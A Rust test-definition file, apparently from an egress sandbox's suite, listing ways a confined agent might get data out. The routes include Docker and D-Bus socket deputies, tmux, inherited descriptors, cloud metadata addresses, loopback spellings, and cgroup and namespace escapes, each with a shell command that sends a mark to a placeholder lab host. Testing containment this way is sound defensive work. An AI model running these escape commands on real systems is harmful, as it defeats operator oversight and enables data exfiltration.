//! Ways out that are not packets of the agent's own: deputies, descriptors, namespaces.
//!
//! A deputy is a process outside that sends for whoever asks. Most are played by `socat`, at the
//! places where real ones listen.

use super::entry::{ANYONE, Entry, Helper, ROOT, USER, V4, V6, way};

/// Rules that the tricks below need beside the common ones.
pub const RULES: &[&str] = &[];

pub const WAYS: &[Entry] = &[
    // Deputies at the Unix sockets of real ones, which the launcher knows.
    deputy!("B29-docker", "docker.sock", "/run/docker.sock").at(ANYONE),
    deputy!("B29-docker-var", "docker.sock by its older path", "/var/run/docker.sock"),
    deputy!("B29-containerd", "containerd.sock", "/run/containerd/containerd.sock"),
    deputy!("B29-podman", "podman.sock", "/run/podman/podman.sock"),
    deputy!("B29-podman-user", "podman.sock of a user", "/run/user/65534/podman/podman.sock"),
    deputy!("B29-crio", "crio.sock", "/run/crio/crio.sock"),
    deputy!("B29-libvirt", "libvirt-sock", "/run/libvirt/libvirt-sock"),
    deputy!("B29-snapd", "snapd.socket", "/run/snapd.socket"),
    deputy!("B30-bus-system", "the system bus", "/run/dbus/system_bus_socket"),
    deputy!("B30-bus-user", "the bus of a user", "/run/user/65534/bus"),
    deputy!("B30-systemd", "systemd's private socket", "/run/systemd/private"),
    deputy!("B30-systemd-user", "that of a user", "/run/user/65534/systemd/private"),
    deputy!("B30-screen", "a session of screen", "/run/screen/S-root/1.session"),
    deputy!("B32-varlink", "systemd-resolved by varlink", "/run/systemd/resolve/io.systemd.Resolve"),
    deputy!("B32-monitor", "its monitor", "/run/systemd/resolve/io.systemd.Resolve.Monitor"),
    // The same where no list names them. Whoever looks finds another.
    deputy!("N200-buildkit", "buildkitd, which fetches", "/run/buildkit/buildkitd.sock"),
    deputy!("N203-dirmngr", "dirmngr, which fetches", "/run/user/65534/gnupg/S.dirmngr"),
    deputy!("N210-nobody-knows", "a deputy that nobody has heard of", "/run/nobody-knows.sock").at(ANYONE),
    deputy!("N211-lxd", "lxd, below /var/lib", "/var/lib/lxd/unix.socket"),
    deputy!("N212-docker-home", "docker.sock of a desktop", "/root/.docker/run/docker.sock").at(ROOT),
    deputy!("N213-x11", "a display, which types for whoever asks", "/tmp/.X11-unix/X9"),
    way("N214-datagram", "a deputy by datagram", "echo {mark} | socat - unix-sendto:/run/nobody-knows")
        .over(V4)
        .staged(concat!(
            stage!(),
            "timeout 15 socat -u unix-recvfrom:/run/nobody-knows,fork,mode=666 udp:{url}:9000 & ",
            "until [ -S /run/nobody-knows ]; do sleep 0.02; done"
        ))
        .works_as(AMONG_OWN),
    way(
        "N215-packets",
        "a deputy by sequenced packets",
        "echo {mark} | socat -u - unix-connect:/run/nobody-knows,type=5",
    )
    .over(V4)
    .staged(concat!(
        stage!(),
        "timeout 15 socat -u unix-listen:/run/nobody-knows,type=5,fork,mode=666 udp:{url}:9000 & ",
        "until [ -S /run/nobody-knows ]; do sleep 0.02; done"
    ))
    .works_as(AMONG_OWN),
    way(
        "N216-restarted",
        "a known deputy that is restarted while the agent runs",
        "for i in $(seq 8); do echo {mark} | socat -u - unix-connect:/run/docker.sock; sleep 0.2; done",
    )
    .over(V4)
    .staged(concat!(
        stage!(),
        "(for i in $(seq 30); do rm -f /run/docker.sock; ",
        "timeout 0.4 socat -u unix-listen:/run/docker.sock,fork,mode=666 udp:{url}:9000; done) & ",
        "until [ -S /run/docker.sock ]; do sleep 0.02; done"
    ))
    .works_as(AMONG_OWN),
    way(
        "N217-uncovered",
        "the cover of a known deputy is taken away",
        "unshare -Urm sh -c 'umount -l /run/docker.sock; mount --bind /run /mnt; \
         for door in /run/docker.sock /mnt/docker.sock /proc/1/root/run/docker.sock; do \
         echo {mark} | socat -u - unix-connect:$door; done'; \
         echo {mark} | socat -u - unix-connect:/proc/1/root/run/docker.sock",
    )
    .over(V4)
    .staged(concat!(stage!(), listening!("/run/docker.sock")))
    .works_as(AMONG_OWN),
    way(
        "N218-through-the-folder",
        "a folder that was open before its deputy was covered",
        "cd /run; echo {mark} | socat -u - unix-connect:docker.sock; \
         cd /proc/self/cwd/; echo {mark} | socat -u - unix-connect:./docker.sock",
    )
    .over(V4)
    .staged(concat!(stage!(), listening!("/run/docker.sock"), "; cd /run"))
    .works_as(AMONG_OWN),
    way(
        "N222-folder-input",
        "the same folder as standard input",
        "exec 5<&0; echo {mark} | socat -u - unix-connect:/proc/self/fd/5/docker.sock",
    )
    .over(V4)
    .staged(concat!(stage!(), listening!("/run/docker.sock"), "; exec 0< /run"))
    .refusable()
    .never_works(REFUSED),
    // Real ones.
    way(
        "B30-tmux",
        "a real tmux, told to run a program",
        "tmux -S /tmp/tmux-0/default run-shell 'bash -c \"echo {mark} > /dev/udp/{ip}/9000\"'",
    )
    .staged(concat!(
        stage!(),
        "mkdir -m 777 /tmp/tmux-0; tmux -S /tmp/tmux-0/default new-session -d 'timeout 15 sleep 15'; ",
        "chmod 777 /tmp/tmux-0/default; tmux -S /tmp/tmux-0/default server-access -a nobody"
    ))
    .works_as(AMONG_OWN),
    way(
        "B30-dbus",
        "a real bus, told to start a service",
        "export DBUS_SESSION_BUS_ADDRESS=unix:path=/run/dbus/system_bus_socket; \
         bus() { dbus-send --session --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.$@; }; \
         bus UpdateActivationEnvironment dict:string:string:TEXT,{mark}; \
         bus StartServiceByName string:lab.Sender uint32:0",
    )
    .staged(concat!(stage!(), "{trick} doors.bus /run/dbus/system_bus_socket {ip}"))
    .works_as(AMONG_OWN),
    // By names that ignore mount namespaces.
    abstract_deputy!("B31-abstract", "an abstract socket", "listen", "connect", ""),
    abstract_deputy!("B31-datagram", "an abstract socket for datagrams", "recvfrom", "sendto", ""),
    abstract_deputy!("B31-packets", "an abstract socket for packets", "listen", "connect", ",type=5"),
    // Sockets of someone else.
    way("B28-vsock", "a deputy behind a virtual socket", "echo {mark} | socat -t 1 - vsock-connect:1:1234")
        .over(V4)
        .helped_by(Helper::Host(
            "socat vsock-listen:1234,fork udp:{url}:9000 & until ss --vsock -ln | grep -q 1234; do sleep 0.02; done; \
             echo ready; wait",
        ))
        .needs(
            "{trick} doors.vsock_loopback",
            "no virtual socket reaches this very machine; of the family itself tells B28-family",
        )
        .works_as(AMONG_OWN),
    way(
        "B35-handed-udp",
        "a connected socket, handed in over a Unix socket",
        "{trick} doors.receive /run/nobody-knows {mark}",
    )
    .staged(concat!(stage!(), "{trick} doors.hand_out udp /run/nobody-knows {ip} 9000"))
    .works_as(AMONG_OWN),
    way(
        "B35-handed-tcp",
        "a fresh socket, handed in, then connected",
        "{trick} doors.receive_fresh /run/nobody-knows {ip} 9000 {mark}",
    )
    .staged(concat!(stage!(), "{trick} doors.hand_out tcp /run/nobody-knows {ip} 9000"))
    .works_as(AMONG_OWN),
    way(
        "B35-handed-abstract",
        "the same over an abstract socket",
        "{trick} doors.receive @hands-{mark} {mark}",
    )
    .staged("{trick} doors.hand_out udp @hands-{mark} {ip} 9000")
    .works_as(AMONG_OWN),
    way("B35-taken", "a socket of any process, by its number", "{trick} doors.take_any {ip} 9000 {mark}")
        .helped_by(Helper::Host(
            "exec setpriv --reuid=65534 --regid=65534 --clear-groups --bounding-set=-all --inh-caps=-all \
             bash -c 'exec 7<> /dev/udp/{ip}/9000; echo ready; exec sleep 20'",
        ))
        .at(USER)
        .works_as(AMONG_OWN),
    way("B36-inherited", "a socket that the launcher left open", "echo {mark} >&7")
        .staged("exec 7<> /dev/udp/{ip}/9000")
        .works_as(AMONG_OWN),
    way("B36-high", "one with a number that nobody looks at", "echo {mark} > /dev/fd/1000; echo {mark} >&1000")
        .staged("ulimit -n 2048; exec 1000<> /dev/udp/{ip}/9000")
        .works_as(AMONG_OWN),
    way("B36-input", "a socket as standard input", "echo {mark} >&0")
        .staged("exec 0<> /dev/udp/{ip}/9000")
        .refusable()
        .never_works(REFUSED),
    way("B36-output", "a socket as standard output", "echo {mark}")
        .staged("exec 1<> /dev/udp/{ip}/9000")
        .refusable()
        .never_works(REFUSED),
    way("B36-frames", "a packet socket as standard input", "{trick} doors.send_frame 0 {v4} {mark}")
        .over(V4)
        .staged("exec {trick} doors.lend_frames 0 \"$0\" \"$@\"")
        .refusable()
        .never_works(REFUSED),
    way("N220-tun", "a tunnel device of the host as standard input", "{trick} doors.write_packet 0 {v4} {mark}")
        .over(V4)
        .staged("exec {trick} doors.lend_tun 0 \"$0\" \"$@\"")
        .refusable()
        .never_works(REFUSED),
    way("B37-ring", "a ring whose kernel thread is the launcher's", "{trick} rings.send 7")
        .over(V4)
        .staged("{trick} rings.lend 7 {v4} 9000 {mark} \"$0\" \"$@\"; exit")
        .works_as(AMONG_OWN),
    way("N221-ring-input", "the same ring as standard input", "{trick} rings.send 0")
        .over(V4)
        .staged("{trick} rings.lend 0 {v4} 9000 {mark} \"$0\" \"$@\"; exit")
        .refusable()
        .never_works(REFUSED),
    // Resolvers and services of the host.
    stub!("B32-stub-53", "the stub of systemd-resolved", "127.0.0.53", "53"),
    stub!("B32-stub-11", "the stub of a container engine", "127.0.0.11", "53"),
    stub!("B32-stub-54", "its proxy", "127.0.0.54", "53"),
    stub!("B32-host-53", "a resolver at the host's own address", "10.99.0.1", "53"),
    stub!("B32-odd-port", "a resolver at another port", "127.0.0.1", "5353"),
    way(
        "B32-nss",
        "names by whatever modules the host has",
        "getent -s resolve hosts {mark}.{host}; getent -s mymachines hosts {mark}.{host}; \
         getent hosts {mark}.{host}; getent passwd {mark}",
    )
    .over(V4)
    .works_as("getent hosts ok.test"),
    service!("B33-loopback", V4, "127.0.0.1"),
    service!("B33-short", V4, "127.1"),
    service!("B33-other", V4, "127.8.8.8"),
    service!("B33-zero", V4, "0.0.0.0"),
    service!("B33-number", V4, "2130706433"),
    service!("B33-octal", V4, "0177.0.0.1"),
    service!("B33-localhost", V4, "localhost"),
    service!("B33-lan", V4, "10.99.0.1"),
    service!("B33-v6", V6, "[::1]"),
    service!("B33-v6-zero", V6, "[::]"),
    service!("B33-mapped", V6, "[::ffff:127.0.0.1]"),
    service!("B33-v6-lan", V6, "[fd99::1]"),
    way("B33-udp", "a service of the loopback by datagram", "echo {mark} > /dev/udp/127.0.0.1/7777")
        .over(V4)
        .helped_by(Helper::Host(
            "socat -u udp-recvfrom:7777,reuseaddr,fork udp-sendto:{url}:9000 & \
             until ss -uln | grep -q 7777; do sleep 0.02; done; echo ready; wait",
        ))
        .works_as(AMONG_OWN),
    // Metadata services, wherever clouds put them.
    metadata!("B34-link-local", V4, "169.254.169.254"),
    metadata!("B34-link-local-dns", V4, "169.254.169.253"),
    metadata!("B34-tasks", V4, "169.254.170.2"),
    metadata!("B34-shared", V4, "100.100.100.200"),
    metadata!("B34-special", V4, "192.0.0.192"),
    metadata!("B34-public", V4, "168.63.129.16"),
    metadata!("B34-v6", V6, "[fd00:ec2::254]"),
    metadata!("B34-v6-tasks", V6, "[fd00:ec2::23]"),
    metadata!("B34-v6-link", V6, "[fd20:ce::254]"),
    metadata!("B34-nat64", V6, "[64:ff9b::a9fe:a9fe]"),
    // Cgroups and namespaces.
    attempt!("B38-procs", "to another cgroup", cgroups!("echo $BASHPID > $mount/cgroup.procs")),
    attempt!("B38-threads", "a thread of it", cgroups!("echo $BASHPID > $mount/cgroup.threads")),
    attempt!(
        "B38-child",
        "to a cgroup below",
        cgroups!(
            "below=$mount$own/below; mkdir $below && \
             bash -c \"echo \\$\\$ > $below/cgroup.procs; echo {mark} > /dev/udp/{ip}/9000\"; rmdir $below"
        )
    ),
    attempt!(
        "B38-remount",
        "to another cgroup, by a mount that can be written",
        "unshare -UrmC bash -c 'mount -t cgroup2 none /mnt; mount -o remount,rw,bind /sys/fs/cgroup; \
         for procs in /mnt/cgroup.procs /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do \
         echo 0 > $procs; done; echo {mark} > /dev/udp/{ip}/9000'"
    ),
    attempt!(
        "B38-clone",
        "a child that is born in another cgroup",
        "{trick} doors.born_elsewhere {ip} 9000 {mark}"
    ),
    attempt!(
        "B40-classid",
        "a class of the older cgroups, which hid sockets from the newer",
        "unshare -Urm bash -c 'mount -t cgroup -o net_cls,net_prio none /mnt && mkdir /mnt/x && \
         echo 0x100001 > /mnt/x/net_cls.classid && echo $$ > /mnt/x/cgroup.procs; \
         echo {mark} > /dev/udp/{ip}/9000'"
    ),
    attempt!("B41-user", "a user namespace", "unshare -Ur bash -c 'echo {mark} > /dev/udp/{ip}/9000'"),
    attempt!(
        "B41-link",
        "a link from a network namespace of its own into the host's",
        "unshare -Urn bash -c 'ip link add v0 type veth peer name v1 netns 1; \
         ip link add link wan name m0 type macvlan; ip link add m1 link wan netns 1 type ipvlan; \
         ip link set v0 up; ip address add 10.99.0.99/24 dev v0; ip route add default dev v0; \
         echo {mark} > /dev/udp/{ip}/9000'"
    ),
    attempt!(
        "B41-enter",
        "into whatever namespace is in sight",
        "for net in /proc/*/ns/net /run/netns/*; do nsenter --net=$net true; done"
    ),
    attempt!(
        "B41-socket-of-another",
        "a socket made in one network namespace, used in another",
        "{trick} doors.socket_before_namespace {ip} 9000 {mark}"
    ),
    way(
        "B42-advertisement",
        "a router advertisement, to be its neighbours' gateway",
        "{trick} doors.advertise {mark}",
    )
    .over(V6)
    .at(ROOT)
    .never_works("no agent speaks for a router"),
    way("B42-dhcp", "a dhcp offer, to be its neighbours' server", "{trick} doors.offer {mark}")
        .over(V4)
        .at(ROOT)
        .never_works("no agent speaks for a dhcp server"),
    way("B42-arp", "a neighbour's address, claimed", "{trick} doors.claim 10.99.0.67")
        .over(V4)
        .at(ROOT)
        .never_works("no agent speaks for a neighbour"),
    // Programs that the kernel starts for whoever asks it to.
    way(
        "N230-keys",
        "a key, which the kernel has a program of the host look up",
        "{trick} doors.request_key {mark}.{host}",
    )
    .over(V4)
    .needs("false", "the kernel would start /sbin/request-key of this machine, beyond any lab: see keys.rs")
    .works_as(AMONG_OWN),
];

/// Of what the launcher refuses to hand on.
const REFUSED: &str = "whoever is handed such a descriptor is not started";
/// What deputies are for among the agent's own processes: a Unix socket of each kind.
const AMONG_OWN: &str = "{trick} doors.among_own";

/// The stage of deputies, who forward only what a trick says, not what programs of the host look
/// up: folders of the host's that are empty, but for that of this lab, and go with the trick.
macro_rules! stage {
    () => {
        "mount -t tmpfs -o mode=755 none /run; mkdir /run/old; mount --rbind / /run/old; \
         for folder in /var/lib /root /tmp; do mount -t tmpfs none $folder; done; \
         trick='{trick}'; tests=${trick#* }; \
         for path in \"${tests%/egressd/*}\" \"${0%/*}\" \"${SSL_CERT_FILE%/*}\"; do \
         case $path in /*) [ -e \"$path\" ] || \
         { mkdir -p \"$path\" && mount --rbind \"/run/old$path\" \"$path\"; };; esac; done; \
         umount -l /run/old; \
         echo 'grep -a --line-buffered {mark} | socat -u - udp:{url}:9000' > /run/forward; "
    };
}

/// A deputy that listens at this path, until it has outlived the trick.
macro_rules! listening {
    ($path:literal) => {
        concat!(
            "mkdir -p $(dirname ",
            $path,
            "); chmod 755 /root; timeout 15 socat -u unix-listen:",
            $path,
            ",fork,mode=666 exec:'sh /run/forward' & until [ -S ",
            $path,
            " ]; do sleep 0.02; done"
        )
    };
}

macro_rules! deputy {
    ($id:literal, $what:literal, $path:literal) => {
        way($id, $what, concat!("echo {mark} | socat -u - unix-connect:", $path))
            .at(USER)
            .over(V4)
            .staged(concat!(stage!(), listening!($path)))
            .works_as(AMONG_OWN)
    };
}

macro_rules! abstract_deputy {
    ($id:literal, $what:literal, $listen:literal, $connect:literal, $options:literal) => {
        way($id, $what, concat!("echo {mark} | socat -u - abstract-", $connect, ":{mark}", $options))
            .at(USER)
            .over(V4)
            .helped_by(Helper::Host(concat!(
                "socat -u abstract-",
                $listen,
                ":{mark},fork",
                $options,
                " udp:{url}:9000 & until grep -q @{mark} /proc/net/unix; do sleep 0.02; done; echo ready; wait"
            )))
            .works_as(AMONG_OWN)
    };
}

/// A resolver of the host's that forwards to one on the internet.
macro_rules! stub {
    ($id:literal, $what:literal, $address:literal, $port:literal) => {
        way(
            $id,
            $what,
            concat!(
                "for transport in +notcp +tcp; do dig +short +time=1 +tries=1 $transport @",
                $address,
                " -p ",
                $port,
                " {mark}.{host}; done"
            ),
        )
        .at(USER)
        .over(V4)
        .helped_by(Helper::Host(concat!(
            "socat udp-recvfrom:",
            $port,
            ",bind=",
            $address,
            ",fork udp-sendto:10.99.0.53:53 & ",
            "socat tcp-listen:",
            $port,
            ",bind=",
            $address,
            ",fork,reuseaddr tcp:10.99.0.53:53 & ",
            "until ss -tln | grep -q ",
            $address,
            ":",
            $port,
            " && ss -uln | grep -q ",
            $address,
            ":",
            $port,
            "; do sleep 0.02; done; echo ready; wait"
        )))
        .works_as(concat!("dig +short +time=2 +tries=1 @", $address, " {host} | grep -qx {v4}"))
    };
}

/// A service of the host's that passes on what it is told, by one spelling of where it is.
macro_rules! service {
    ($id:literal, $family:expr, $spelling:literal) => {
        way(
            $id,
            concat!("a service of the host's at ", $spelling),
            concat!("curl -s -m 2 http://", $spelling, ":7777/{mark}"),
        )
        .at(USER)
        .over($family)
        .helped_by(Helper::Host(
            "socat tcp6-listen:7777,ipv6only=0,fork,reuseaddr tcp:{url}:80 & \
             until ss -tln | grep -q 7777; do sleep 0.02; done; echo ready; wait",
        ))
        .works_as("curl -sSf -m 5 {dash} http://ok.test/")
    };
}

macro_rules! metadata {
    ($id:literal, $family:expr, $address:literal) => {
        way(
            $id,
            concat!("a metadata service at ", $address),
            concat!("curl -s -m 2 http://", $address, "/{mark}"),
        )
        .at(USER)
        .over($family)
        .works_as("curl -sSf -m 5 {dash} http://ok.test/")
    };
}

/// An escape, and then a datagram by whoever escaped.
macro_rules! attempt {
    ($id:literal, $what:literal, $escape:expr) => {
        way($id, $what, concat!("(", $escape, ") 2> /dev/null; echo {mark} > /dev/udp/{ip}/9000"))
            .works_as("{trick} udp_sendto {ok} 9000 {mark}")
    };
}

/// The same, in a shell of its own for each place where cgroups are mounted.
macro_rules! cgroups {
    ($escape:literal) => {
        concat!(
            "own=$(grep ^0:: /proc/self/cgroup | cut -d: -f3-); ",
            "for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do ",
            "(",
            $escape,
            "; echo {mark} > /dev/udp/{ip}/9000); done"
        )
    };
}

use {abstract_deputy, attempt, cgroups, deputy, listening, metadata, service, stage, stub};
